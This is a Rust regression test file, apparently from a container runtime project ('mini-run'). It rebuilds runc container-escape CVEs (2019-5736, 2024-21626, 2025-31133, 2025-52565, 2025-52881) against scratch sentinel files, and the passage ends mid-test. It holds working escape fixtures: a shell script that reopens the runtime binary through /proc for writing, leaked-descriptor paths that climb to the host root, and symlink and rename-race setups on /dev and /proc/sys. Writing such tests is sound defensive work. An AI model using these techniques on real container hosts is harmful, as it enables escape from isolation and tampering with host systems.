//! Regression tests for runc's container-escape CVEs. Each test rebuilds the attack's shape
//! against mini-run — malicious image content, malicious mounts in config.json, a process racing
//! the runtime over a shared directory — and checks that it fails: the target is untouched, or
//! the runtime refuses with one line and leaves nothing behind, or its write lands where it
//! belongs. Every target is a scratch file the test made (a "sentinel"); nothing here writes to a
//! real host or kernel file.
//!
//! The tests also run against other runtimes (`MINI_RUN_BIN=/usr/sbin/runc`): what runc 1.1.5
//! does with each fixture is noted on the test.

use mini_tests::*;
use serde_json::json;
use std::collections::BTreeMap;
use std::fs::File;
use std::io::IoSliceMut;
use std::os::fd::{AsFd, AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::os::unix::net::{UnixListener, UnixStream};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(10);

/// Containers started while a racer swaps paths under them.
const RACE_ROUNDS: usize = 20;

/// Makes `cmd` start with each `(fd, number)`: `fd` open (without close-on-exec) as `number`,
/// the way a caller leaks descriptors into the runtime or passes them on purpose.
fn with_fds(cmd: &mut Command, fds: &[(RawFd, RawFd)]) {
    let fds = fds.to_vec();
    // SAFETY: only fcntl and dup2, which are async-signal-safe, run between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            // Copies above every target first, so no target overwrites a source.
            let high: Vec<i32> = fds
                .iter()
                .map(|(fd, _)| libc::fcntl(*fd, libc::F_DUPFD, 100))
                .collect();
            for (h, (_, number)) in high.iter().zip(&fds) {
                if *h < 0 || libc::dup2(*h, *number) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            for h in high {
                libc::close(h);
            }
            Ok(())
        });
    }
}

/// The bundle with `dev` (a host directory: the image's own /dev, or a volume another container
/// shares) bind-mounted as /dev instead of a fresh tmpfs; devpts, shm and mqueue stay.
fn with_dev_from(b: Bundle, dev: &Path) -> Bundle {
    b.edit(|c| {
        for m in c["mounts"].as_array_mut().unwrap() {
            if m["destination"] == "/dev" {
                *m = json!({"destination": "/dev", "type": "bind", "source": dev, "options": ["rbind"]});
            }
        }
    })
}

/// Makes `dir/name` the real null device (1:3), as an image's or a volume's /dev holds it.
fn make_null_device(dir: &Path, name: &str) {
    let path = dir.join(name);
    let _ = std::fs::remove_file(&path);
    nix::sys::stat::mknod(
        &path,
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::from_bits_truncate(0o666),
        nix::sys::stat::makedev(1, 3),
    )
    .unwrap();
}

/// Plants `/sentinel` in the bundle's (private) rootfs with unique contents and returns them.
/// The root is mounted read-only once set up, so the container cannot write the sentinel unless
/// the runtime exposes it through some other mount.
fn plant_sentinel(b: &Bundle) -> String {
    let text = unique("sentinel-contents");
    std::fs::write(b.rootfs().join("sentinel"), &text).unwrap();
    text
}

fn sentinel_of(b: &Bundle) -> String {
    std::fs::read_to_string(b.rootfs().join("sentinel")).unwrap()
}

/// Asserts that a failed command failed cleanly: at most one line on stderr.
fn assert_clean_failure(out: &Output, what: &str) {
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.trim().lines().count() <= 1,
        "{what}: expected at most one line of error, got: {err}"
    );
}

/// A host thread that keeps exchanging pairs of names in a directory (renameat2
/// RENAME_EXCHANGE, so both names always exist), as a second container sharing that directory
/// as a volume would while the runtime sets up the first; stopped on drop.
struct Racer {
    stop: Arc<AtomicBool>,
    swaps: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Racer {
    fn start(dir: &Path, pairs: &[(&str, &str)]) -> Racer {
        let dirfd = File::open(dir).unwrap();
        let pairs: Vec<(String, String)> = pairs
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect();
        let stop = Arc::new(AtomicBool::new(false));
        let swaps = Arc::new(AtomicU64::new(0));
        let (s, n) = (stop.clone(), swaps.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                for (a, b) in &pairs {
                    nix::fcntl::renameat2(
                        dirfd.as_fd(),
                        a.as_str(),
                        dirfd.as_fd(),
                        b.as_str(),
                        nix::fcntl::RenameFlags::RENAME_EXCHANGE,
                    )
                    .expect("exchanging names");
                    n.fetch_add(1, Ordering::Relaxed);
                }
                std::thread::yield_now();
            }
        });
        Racer {
            stop,
            swaps,
            thread: Some(thread),
        }
    }

    /// Stops the thread; returns how many exchanges it made.
    fn finish(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            t.join().expect("racer thread");
        }
        self.swaps.load(Ordering::Relaxed)
    }
}

impl Drop for Racer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The receiving end of a `--console-socket`: takes the pty master if the runtime connects and
/// collects what the container writes on its terminal.
struct ConsoleServer {
    _dir: TempDir,
    path: PathBuf,
    done: Arc<AtomicBool>,
    thread: JoinHandle<Option<String>>,
}

impl ConsoleServer {
    fn start() -> ConsoleServer {
        let dir = TempDir::new("console");
        let path = dir.path().join("console.sock");
        let listener = UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        let done = Arc::new(AtomicBool::new(false));
        let d = done.clone();
        let thread = std::thread::spawn(move || loop {
            match listener.accept() {
                Ok((conn, _)) => return Some(read_console(conn, &d)),
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                    if d.load(Ordering::Relaxed) {
                        return None;
                    }
                    std::thread::sleep(Duration::from_millis(5));
                }
                Err(e) => panic!("console socket: {e}"),
            }
        });
        ConsoleServer {
            _dir: dir,
            path,
            done,
            thread,
        }
    }

    fn socket(&self) -> &str {
        self.path.to_str().unwrap()
    }

    /// Once the container is gone: its terminal output, or `None` if the runtime never
    /// connected.
    fn finish(self) -> Option<String> {
        self.done.store(true, Ordering::Relaxed);
        self.thread.join().expect("console thread")
    }
}

/// Receives the master over `conn` and reads it until the container's side is closed (or,
/// once `done`, nothing more arrives).
fn read_console(conn: UnixStream, done: &AtomicBool) -> String {
    conn.set_nonblocking(false).unwrap();
    let mut name = [0u8; 256];
    let mut iov = [IoSliceMut::new(&mut name)];
    let mut space = nix::cmsg_space!([RawFd; 2]);
    let Ok(msg) = nix::sys::socket::recvmsg::<()>(
        conn.as_raw_fd(),
        &mut iov,
        Some(&mut space),
        nix::sys::socket::MsgFlags::MSG_CMSG_CLOEXEC,
    ) else {
        return String::new();
    };
    let mut master = None;
    for c in msg.cmsgs().into_iter().flatten() {
        if let nix::sys::socket::ControlMessageOwned::ScmRights(fds) = c {
            for fd in fds {
                // SAFETY: the kernel just gave us this descriptor.
                master.get_or_insert(unsafe { OwnedFd::from_raw_fd(fd) });
            }
        }
    }
    let Some(master) = master else {
        return String::new();
    };
    let mut text = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let mut poll = [nix::poll::PollFd::new(
            master.as_fd(),
            nix::poll::PollFlags::POLLIN,
        )];
        match nix::poll::poll(&mut poll, 100u16) {
            Ok(0) if done.load(Ordering::Relaxed) => break,
            Ok(0) | Err(nix::errno::Errno::EINTR) => continue,
            Err(_) => break,
            Ok(_) => match nix::unistd::read(&master, &mut buf) {
                Ok(n) if n > 0 => text.extend_from_slice(&buf[..n]),
                _ => break, // EIO: every slave descriptor is closed
            },
        }
    }
    String::from_utf8_lossy(&text).into_owned()
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736: the container makes the runtime execute itself inside the container (an entry
// point `#!/proc/self/exe`), keeps a descriptor to /proc/<pid>/exe, and reopens it for writing
// once the runtime has exited, overwriting the host's runtime binary.

/// The attacker, the container's own process: find the runtime that the exec'd `/evil` runs,
/// keep a read-only descriptor to its binary, and once the host says it has exited, try to
/// reopen that descriptor for writing.
const ATTACK_5736: &str = r#"
while :; do
  for p in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $p/cmdline 2>/dev/null)" in
      "/proc/self/exe /evil"*)
        if (exec 5< $p/exe) 2>/dev/null; then exec 5< $p/exe; echo $p > /shared/opened; break 2; fi ;;
    esac
  done
done
while [ ! -e /shared/go ]; do sleep 0.05; done
i=0
while [ $i -lt 30 ]; do
  if echo pwned >> /proc/self/fd/5; then echo written > /shared/result.tmp; mv /shared/result.tmp /shared/result; exit 0; fi
  i=$((i+1)); sleep 0.1
done 2> /shared/errors
mv /shared/errors /shared/result
"#;

/// With mini-run's read-only re-exec removed (`exe_guard::reexec_as_init` without the remount)
/// the attacker's write succeeds and this test fails. The fixture is mini-run's own: runc 1.1.5
/// (which runs itself from a sealed memfd copy) exits at once when exec'd this way, so the
/// attacker never catches it and the test fails on that instead.
#[test]
fn cve_2019_5736_exec_of_a_proc_self_exe_shebang_cannot_overwrite_the_runtime() {
    // The attack writes to the runtime binary, so the runtime under test is a scratch copy.
    let bin_dir = TempDir::new("runtime-copy");
    let bin = bin_dir.path().join("runtime");
    std::fs::copy(mini_run_bin(), &bin).unwrap();
    let before = file_fingerprint(&bin);
    let shared = TempDir::new("shared");
    // CAP_SYS_PTRACE lets the attacker open the exe of a non-dumpable process (the runtime makes
    // itself non-dumpable while it works inside the container).
    let caps = json!(["CAP_SYS_PTRACE", "CAP_KILL"]);
    let b = Bundle::new(&["sh", "/attack"])
        .with_private_rootfs()
        .edit(|c| {
            c["process"]["capabilities"] =
                json!({"bounding": caps, "effective": caps, "permitted": caps});
            c["mounts"].as_array_mut().unwrap().push(json!({
                "destination": "/shared", "type": "bind", "source": shared.path(),
                "options": ["rbind", "rw"]
            }));
        });
    let evil = b.rootfs().join("evil");
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(b.rootfs().join("attack"), ATTACK_5736).unwrap();

    let rt = Runtime::new();
    let runtime = |args: &[&str]| {
        let mut c = Command::new(&bin);
        c.arg("--root").arg(rt.root()).args(args);
        c
    };
    let id = unique("cve-5736");
    let out = captured_output(&mut runtime(&[
        "run",
        "--detach",
        "--bundle",
        b.path_str(),
        &id,
    ]));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // `exec /evil`: the kernel runs /proc/self/exe, the runtime's binary, as the container's new
    // process. Its environment makes a mini-run believe it is an init whose channel is fd 3, a
    // socket whose other end the test holds: it waits there until the attacker holds its exe.
    let init_env = format!("{}=3", mini_run::process::exe_guard::INIT_ENV);
    let (ours, theirs) = UnixStream::pair().unwrap();
    let mut exec = runtime(&[
        "exec",
        "--preserve-fds",
        "1",
        "--env",
        &init_env,
        &id,
        "/evil",
    ]);
    with_fds(&mut exec, &[(theirs.as_raw_fd(), 3)]);
    exec.stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let exec = ChildGuard::start(&mut exec);
    drop(theirs);
    let opened = wait_until(WAIT, || shared.path().join("opened").exists());
    drop(ours);
    let exec_done = exec.wait_timeout(WAIT).is_some();
    assert!(
        opened,
        "the attacker never caught the runtime running in the container"
    );
    assert!(exec_done, "exec did not return once its process exited");
    std::fs::write(shared.path().join("go"), "").unwrap();
    let result = shared.path().join("result");
    assert!(
        wait_until(WAIT, || result.exists()),
        "the attacker never finished"
    );
    let result = std::fs::read_to_string(result).unwrap();
    assert!(
        !result.contains("written"),
        "the container reopened the runtime binary for writing"
    );
    assert!(
        result.contains("Read-only file system") || result.contains("Text file busy"),
        "unexpected failure of the attacker's write: {result}"
    );
    assert_eq!(file_fingerprint(&bin), before, "the runtime binary changed");
}

// ---------------------------------------------------------------------------------------------
// CVE-2024-21626: a host directory descriptor leaks into the container's init; process.cwd (or
// `exec --cwd`, or the executable's path) names it through /proc/self/fd/N, and the process starts
// with a working directory on the host.

/// A host directory holding a file the container must never read and a host binary it must
/// never run, open as a descriptor to leak.
struct LeakedDir {
    dir: TempDir,
    handle: File,
    secret: String,
}

/// Descriptor numbers at which the caller leaks the host directory into the runtime (the first
/// ones collide with the descriptors a runtime passes its init; the later ones do not).
const LEAKED_AT: [RawFd; 6] = [3, 4, 5, 9, 12, 20];

/// Enough `..` to climb from any host directory to the host's root (`..` does not stop at a
/// root the process has not entered).
const CLIMB: &str = "../../../../../../../../../../../../../../..";

impl LeakedDir {
    fn new() -> LeakedDir {
        let dir = TempDir::new("leaked");
        let secret = unique("host-secret");
        std::fs::write(dir.path().join("host-sentinel"), &secret).unwrap();
        // A host binary (static, so it runs anywhere) that prints the secret from its arguments.
        std::fs::copy(
            fixture_rootfs().join("bin/busybox"),
            dir.path().join("busybox"),
        )
        .unwrap();
        let handle = File::open(dir.path()).unwrap();
        LeakedDir {
            dir,
            handle,
            secret,
        }
    }

    /// `cmd` with the directory leaked at every number of [`LEAKED_AT`].
    fn leak_into(&self, cmd: &mut Command) {
        let fds: Vec<(RawFd, RawFd)> = LEAKED_AT
            .iter()
            .map(|n| (self.handle.as_raw_fd(), *n))
            .collect();
        with_fds(cmd, &fds);
    }

    /// A shell command that prints the secret if its working directory is the host directory
    /// or anywhere else outside the container's root (any host directory a runtime leaks, such
    /// as runc's /sys/fs/cgroup): from there `..` climbs to the host's root.
    fn reader(&self) -> String {
        format!(
            "cat host-sentinel {CLIMB}{}/host-sentinel",
            self.dir.path().display()
        )
    }

    /// The host binary, named through descriptor `n` of the container's process (climbing out
    /// of whatever host directory that descriptor is), and arguments that make it print the
    /// secret.
    fn host_binary_args(&self, n: RawFd) -> Vec<String> {
        vec![
            format!(
                "/proc/self/fd/{n}/{CLIMB}{}/busybox",
                self.dir.path().display()
            ),
            "echo".into(),
            format!("escaped-{}", self.secret),
        ]
    }

    /// Asserts the container printed nothing of the host directory.
    fn assert_not_reached(&self, out: &Output, what: &str) {
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains(&self.secret),
            "{what}: the process reached the host directory {}: {text}",
            self.dir.path().display()
        );
        if !out.status.success() {
            assert_clean_failure(out, what);
        }
    }
}

/// Descriptor numbers the container's cwd or executable is pointed at.
fn probed_fds() -> impl Iterator<Item = RawFd> {
    3..=21
}

/// A runtime whose init holds any host directory while it enters process.cwd (the caller's, or
/// its own like runc's leaked /sys/fs/cgroup) starts the process there; the process climbs to
/// the host's root and prints the secret. (runc 1.1.5 passes on this host: its init holds no
/// directory here and does not keep the caller's descriptors.)
#[test]
fn cve_2024_21626_run_cwd_through_a_leaked_descriptor_never_reaches_the_host() {
    let leaked = LeakedDir::new();
    let rt = Runtime::new();
    for preserve in ["0", "1"] {
        for n in probed_fds() {
            let b = Bundle::new(&["sh", "-c", &leaked.reader()])
                .edit(|c| c["process"]["cwd"] = json!(format!("/proc/self/fd/{n}")));
            let id = unique("cve-21626");
            let mut cmd = rt.command(&[
                "run",
                "--preserve-fds",
                preserve,
                "--bundle",
                b.path_str(),
                &id,
            ]);
            leaked.leak_into(&mut cmd);
            let out = captured_output(&mut cmd);
            leaked.assert_not_reached(&out, &format!("cwd /proc/self/fd/{n}"));
            assert_nothing_left(&rt, &id, b.path());
        }
    }
}

/// The same through `exec --cwd` into a running container (the advisory's attack 2), and an
/// exec'd executable named through a leaked descriptor.
#[test]
fn cve_2024_21626_exec_through_a_leaked_descriptor_never_reaches_the_host() {
    let leaked = LeakedDir::new();
    let rt = Runtime::new();
    let b = Bundle::new(&["probe", "sleep", "60"]);
    let id = unique("cve-21626-exec");
    rt.ok(&["run", "--detach", "--bundle", b.path_str(), &id]);
    for n in probed_fds() {
        let cwd = format!("/proc/self/fd/{n}");
        let mut cmd = rt.command(&["exec", "--cwd", &cwd, &id, "sh", "-c", &leaked.reader()]);
        leaked.leak_into(&mut cmd);
        leaked.assert_not_reached(&captured_output(&mut cmd), &format!("exec --cwd {cwd}"));
        let args = leaked.host_binary_args(n);
        let mut cmd = rt.command(&["exec", &id]);
        cmd.args(&args);
        leaked.leak_into(&mut cmd);
        leaked.assert_not_reached(&captured_output(&mut cmd), &format!("exec {}", args[0]));
    }
    rt.ok(&["delete", "--force", &id]);
}

/// The process's executable named through a leaked descriptor (the advisory's attack 3 shape):
/// a host binary would run as the container's process, and through its /proc/self/exe the
/// container could then write to it. Pre-fix mini-run kept the caller's descriptors open until
/// execve and ran the host binary.
#[test]
fn cve_2024_21626_executable_through_a_leaked_descriptor_is_not_run() {
    let leaked = LeakedDir::new();
    let rt = Runtime::new();
    for n in probed_fds() {
        let args = leaked.host_binary_args(n);
        let b = Bundle::new(&args.iter().map(String::as_str).collect::<Vec<_>>());
        let id = unique("cve-21626-exe");
        let mut cmd = rt.command(&["run", "--bundle", b.path_str(), &id]);
        leaked.leak_into(&mut cmd);
        let out = captured_output(&mut cmd);
        leaked.assert_not_reached(&out, &args[0]);
        assert_nothing_left(&rt, &id, b.path());
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-31133: masking binds /dev/null over each masked path; a container that controls
// /dev/null (a symlink in its image, or swapped by a racing container sharing /dev) makes the
// runtime bind whatever it points to instead, writable, at the masked path.

/// A bundle whose `/etc/masked` is masked and whose process reads it and then writes to it.
fn masking_bundle() -> (Bundle, String) {
    let b = Bundle::new(&["sh", "-c", "cat /etc/masked; echo pwned > /etc/masked"])
        .with_private_rootfs();
    let secret = plant_sentinel(&b);
    std::fs::write(b.rootfs().join("etc/masked"), "masked-file\n").unwrap();
    let b = b.edit(|c| c["linux"]["maskedPaths"] = json!(["/etc/masked"]));
    (b, secret)
}

/// runc 1.1.5 bind-mounts the symlink's target over /etc/masked: the process prints the
/// sentinel and overwrites it, failing this test.
#[test]
fn cve_2025_31133_dev_null_symlink_in_the_image_cannot_unmask_a_path() {
    let (b, secret) = masking_bundle();
    let dev = b.rootfs().join("dev");
    let _ = std::fs::remove_file(dev.join("null"));
    symlink("/sentinel", dev.join("null")).unwrap();
    let b = with_dev_from(b, &dev);
    let rt = Runtime::new();
    let id = unique("cve-31133");
    let out = rt.run(&b, &id);
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains(&secret),
        "the masked path showed the sentinel"
    );
    assert_eq!(
        sentinel_of(&b),
        secret,
        "the sentinel was written through the masked path"
    );
    if !out.status.success() {
        assert_fails_with(&out, &["/dev/null"]);
    }
    assert_nothing_left(&rt, &id, b.path());
}

/// /dev is a volume another container shares: it keeps exchanging the real null device with a
/// symlink to the sentinel while containers start. Each start either masks with the real
/// device or refuses. runc 1.1.5 follows the symlink whenever the swap wins the race.
#[test]
fn cve_2025_31133_dev_null_swapped_during_start_never_unmasks_a_path() {
    let (b, secret) = masking_bundle();
    let dev = TempDir::new("dev-volume");
    make_null_device(dev.path(), "null");
    symlink("/sentinel", dev.path().join("null-evil")).unwrap();
    let b = with_dev_from(b, dev.path());
    let rt = Runtime::new();
    let baseline = rt.run(&b, &unique("cve-31133-baseline"));
    assert!(
        baseline.status.success(),
        "without the racer the container must start: {}",
        String::from_utf8_lossy(&baseline.stderr)
    );
    let racer = Racer::start(dev.path(), &[("null", "null-evil")]);
    let mut outcomes = BTreeMap::new();
    for round in 0..RACE_ROUNDS {
        let id = unique("cve-31133-race");
        let out = rt.run(&b, &id);
        let what = format!("round {round}");
        assert!(
            !String::from_utf8_lossy(&out.stdout).contains(&secret),
            "{what}: the masked path showed the sentinel"
        );
        assert_eq!(
            sentinel_of(&b),
            secret,
            "{what}: the sentinel was overwritten"
        );
        if !out.status.success() {
            assert_clean_failure(&out, &what);
        }
        *outcomes.entry(out.status.success()).or_insert(0) += 1;
        assert_nothing_left(&rt, &id, b.path());
    }
    assert!(racer.finish() > 0, "the racer never swapped");
    eprintln!("started: {outcomes:?} (true = masked with the real device, false = refused)");
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-52565: the pty slave is bind-mounted on /dev/console by path. A container that
// controls /dev/console (a symlink) or /dev/pts (swapped by a racing container) makes the runtime
// mount onto, or mount from, a file of its choosing, before masked and read-only paths apply.

/// A bundle with a terminal whose /dev is `dev`.
fn console_bundle(b: Bundle, dev: &Path) -> Bundle {
    with_dev_from(b, dev).edit(|c| c["process"]["terminal"] = json!(true))
}

/// `run --detach` with a console socket; once the container stopped, deletes it. Returns the
/// runtime's output and what the container wrote on its terminal.
fn run_with_console(rt: &Runtime, b: &Bundle, id: &str) -> (Output, String) {
    let console = ConsoleServer::start();
    let out = rt.cmd(&[
        "run",
        "--detach",
        "--console-socket",
        console.socket(),
        "--bundle",
        b.path_str(),
        id,
    ]);
    if out.status.success() {
        rt.wait_status(id, "stopped", WAIT);
        rt.ok(&["delete", id]);
    }
    (out, console.finish().unwrap_or_default())
}

/// The image's /dev/console is a symlink to the sentinel. runc 1.1.5 truncates the sentinel
/// (it creates /dev/console with O_TRUNC, following the link) and mounts the pty over it,
/// failing this test.
#[test]
fn cve_2025_52565_dev_console_symlink_in_the_image_is_not_followed() {
    let b = Bundle::new(&["sh", "-c", "stat -c %F /sentinel /dev/console"]).with_private_rootfs();
    let secret = plant_sentinel(&b);
    let dev = b.rootfs().join("dev");
    make_null_device(&dev, "null");
    symlink("/sentinel", dev.join("console")).unwrap();
    symlink("pts/ptmx", dev.join("ptmx")).unwrap();
    let b = console_bundle(b, &dev);
    let rt = Runtime::new();
    let id = unique("cve-52565");
    let (out, text) = run_with_console(&rt, &b, &id);
    assert_eq!(sentinel_of(&b), secret, "the sentinel was changed");
    if out.status.success() {
        assert!(
            text.contains("regular file"),
            "/sentinel is covered by a mount: {text:?}"
        );
        assert!(
            text.contains("character special file"),
            "/dev/console is not the terminal: {text:?}"
        );
    } else {
        assert_fails_with(&out, &["/dev/console"]);
    }
    assert_nothing_left(&rt, &id, b.path());
}

/// /dev is a shared volume: a racer keeps exchanging /dev/pts with a directory of symlinks to the
/// sentinel (named like pty slaves, and ptmx) and /dev/console with a symlink to it, while
/// containers with a terminal start and write to /dev/console. runc 1.1.5 opens the slave and
/// mounts /dev/console by path, so a won race binds the sentinel on /dev/console (or truncates
/// it).
#[test]
fn cve_2025_52565_racing_swaps_of_dev_pts_and_dev_console_never_expose_a_file() {
    let b = Bundle::new(&[
        "sh",
        "-c",
        "stat -c %F /sentinel; echo pwned > /dev/console",
    ])
    .with_private_rootfs();
    let secret = plant_sentinel(&b);
    let dev = TempDir::new("dev-volume");
    let evil = dev.path().join("pts-evil");
    std::fs::create_dir(dev.path().join("pts")).unwrap();
    std::fs::create_dir(&evil).unwrap();
    for n in 0..64 {
        symlink("../../sentinel", evil.join(n.to_string())).unwrap();
    }
    symlink("/sentinel", evil.join("ptmx")).unwrap();
    std::fs::write(dev.path().join("console"), "").unwrap();
    symlink("/sentinel", dev.path().join("console-evil")).unwrap();
    symlink("pts/ptmx", dev.path().join("ptmx")).unwrap();
    make_null_device(dev.path(), "null");
    let b = console_bundle(b, dev.path());
    let rt = Runtime::new();
    let (baseline, text) = run_with_console(&rt, &b, &unique("cve-52565-baseline"));
    assert!(
        baseline.status.success() && text.contains("pwned"),
        "without the racer the container must start and write on its terminal: {} {text:?}",
        String::from_utf8_lossy(&baseline.stderr)
    );
    let racer = Racer::start(
        dev.path(),
        &[("pts", "pts-evil"), ("console", "console-evil")],
    );
    let mut outcomes = BTreeMap::new();
    for round in 0..RACE_ROUNDS {
        let id = unique("cve-52565-race");
        let (out, text) = run_with_console(&rt, &b, &id);
        let what = format!("round {round}");
        assert_eq!(sentinel_of(&b), secret, "{what}: the sentinel was changed");
        assert!(
            !text.contains("character special file"),
            "{what}: the terminal was mounted over the sentinel"
        );
        if !out.status.success() {
            assert_clean_failure(&out, &what);
        }
        *outcomes.entry(out.status.success()).or_insert(0) += 1;
        assert_nothing_left(&rt, &id, b.path());
    }
    assert!(racer.finish() > 0, "the racer never swapped");
    eprintln!("started: {outcomes:?}");
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-52881: the runtime's writes to procfs (sysctls under /proc/sys, oom_score_adj, LSM
// labels) go through paths the container can redirect: a mount over part of /proc (a volume of
// symlinks, or a file bound over the target), a /proc that is not procfs, or a racing container
// swapping a shared volume's contents. The write then lands in a file of the attacker's choosing.

const IP_FORWARD: &str = "/proc/sys/net/ipv4/ip_forward";

/// The value of `key_path` under /proc/sys as seen from the network namespace of `pid`.
fn net_sysctl_of(pid: i64, key_path: &str) -> String {
    let out = Command::new("nsenter")
        .arg(format!("--net=/proc/{pid}/ns/net"))
        .args(["cat", key_path])
        .output()
        .expect("nsenter (util-linux)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The contents of the regular files directly in `dir`, sorted (symlinks are not followed;
/// names are left out, as a racer exchanges them).
fn file_contents(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .filter(|e| std::fs::symlink_metadata(e.path()).is_ok_and(|m| m.is_file()))
        .map(|e| std::fs::read_to_string(e.path()).unwrap())
        .collect();
    v.sort();
    v
}

/// A container (`probe sleep`) with net.ipv4.ip_forward=1 in its own network namespace and
/// `volume` bind-mounted over /proc/sys/net/ipv4.
fn sysctl_bundle(volume: &Path) -> (Bundle, String) {
    let b = Bundle::new(&["probe", "sleep", "60"]).with_private_rootfs();
    let secret = plant_sentinel(&b);
    let b = b.edit(|c| {
        c["mounts"].as_array_mut().unwrap().push(json!({
            "destination": "/proc/sys/net/ipv4", "type": "bind", "source": volume,
            "options": ["rbind"]
        }));
        c["linux"]["sysctl"] = json!({"net.ipv4.ip_forward": "1"});
    });
    (b, secret)
}

/// Creates the container; if the runtime accepts it, the sysctl must have reached the
/// container's network namespace. Either way nothing in the volume or the sentinel changes.
fn assert_sysctl_lands_in_procfs(volume: &Path) {
    let files = file_contents(volume);
    start_with_sysctl(volume);
    assert_eq!(
        file_contents(volume),
        files,
        "the sysctl was written into the volume"
    );
}

/// Creates the container of [`sysctl_bundle`] and checks where its sysctl went (the sentinel
/// must be untouched; an accepted container must have the value in its namespace); returns
/// whether the runtime accepted it.
fn start_with_sysctl(volume: &Path) -> bool {
    let (b, secret) = sysctl_bundle(volume);
    let rt = Runtime::new();
    let id = unique("cve-52881");
    let out = rt.create(&b, &id);
    assert_eq!(
        sentinel_of(&b),
        secret,
        "the sysctl was written to the sentinel"
    );
    if out.status.success() {
        let pid = rt.state(&id)["pid"].as_i64().unwrap();
        assert_eq!(
            net_sysctl_of(pid, IP_FORWARD),
            "1",
            "the sysctl did not reach the container's network namespace"
        );
        rt.ok(&["delete", "--force", &id]);
        true
    } else {
        stderr_line(&out);
        assert_nothing_left(&rt, &id, b.path());
        false
    }
}

/// A volume over /proc/sys/net/ipv4 whose ip_forward is a symlink to the sentinel. The
/// runtime must not follow it (pre-fix mini-run wrote "1" into the sentinel; runc 1.1.5
/// refuses every mount inside /proc, so it passes these volume tests).
#[test]
fn cve_2025_52881_sysctl_through_a_symlink_in_a_volume_over_proc_sys_lands_in_procfs() {
    let volume = TempDir::new("volume");
    symlink("/sentinel", volume.path().join("ip_forward")).unwrap();
    assert_sysctl_lands_in_procfs(volume.path());
}

/// A volume over /proc/sys/net/ipv4 whose ip_forward is a plain host file (a bind mount
/// redirecting the write straight out of procfs).
#[test]
fn cve_2025_52881_sysctl_through_a_host_file_bound_over_proc_sys_lands_in_procfs() {
    let volume = TempDir::new("volume");
    std::fs::write(volume.path().join("ip_forward"), "host file\n").unwrap();
    assert_sysctl_lands_in_procfs(volume.path());
}

/// A racing container sharing the volume keeps exchanging a plain ip_forward with a symlink to
/// the sentinel while containers start.
#[test]
fn cve_2025_52881_racing_volume_over_proc_sys_never_redirects_a_sysctl() {
    let volume = TempDir::new("volume");
    std::fs::write(volume.path().join("ip_forward"), "host file\n").unwrap();
    symlink("/sentinel", volume.path().join("ip_forward-evil")).unwrap();
    let files = file_contents(volume.path());
    let racer = Racer::start(volume.path(), &[("ip_forward", "ip_forward-evil")]);
    let mut accepted = 0;
    for _ in 0..RACE_ROUNDS / 2 {
        accepted += usize::from(start_with_sysctl(volume.path()));
    }
    assert!(racer.finish() > 0, "the racer never swapped");
    assert_eq!(
        file_contents(volume.path()),
        files,
        "a sysctl was written into the volume"
    );
    eprintln!("accepted {accepted} of {}", RACE_ROUNDS / 2);
}

/// Without a proc mount, the image's own /proc/sys files (a plain file and a symlink to the
/// sentinel) are what a path-based write reaches. runc 1.1.5 writes into them, failing this
/// test; the runtime must refuse instead.
#[test]
fn cve_2025_52881_sysctl_without_procfs_at_proc_writes_nothing_into_the_image() {
    let b = Bundle::new(&["probe", "sleep", "60"]).with_private_rootfs();
    let secret = plant_sentinel(&b);
    let ipv4 = b.rootfs().join("proc/sys/net/ipv4");
    std::fs::create_dir_all(ipv4.join("conf/all")).unwrap();
    std::fs::write(ipv4.join("ip_forward"), "image file\n").unwrap();
    symlink("/sentinel", ipv4.join("conf/all/forwarding")).unwrap();
    let b = b.edit(|c| {
        c["mounts"]
            .as_array_mut()
            .unwrap()
            .retain(|m| m["destination"] != "/proc");
        c["linux"]["maskedPaths"] = json!([]);
        c["linux"]["readonlyPaths"] = json!([]);
        // A writable root, as most containers have: nothing else stops a write into the image.
        c["root"]["readonly"] = json!(false);
        c["linux"]["sysctl"] =
            json!({"net.ipv4.ip_forward": "1", "net.ipv4.conf.all.forwarding": "1"});
    });
    let rt = Runtime::new();
    let id = unique("cve-52881-noproc");
    let out = rt.create(&b, &id);
    assert_eq!(
        sentinel_of(&b),
        secret,
        "a sysctl was written to the sentinel"
    );
    assert_eq!(
        std::fs::read_to_string(ipv4.join("ip_forward")).unwrap(),
        "image file\n",
        "a sysctl was written into the image"
    );
    assert_fails_with(&out, &["sysctl", "proc"]);
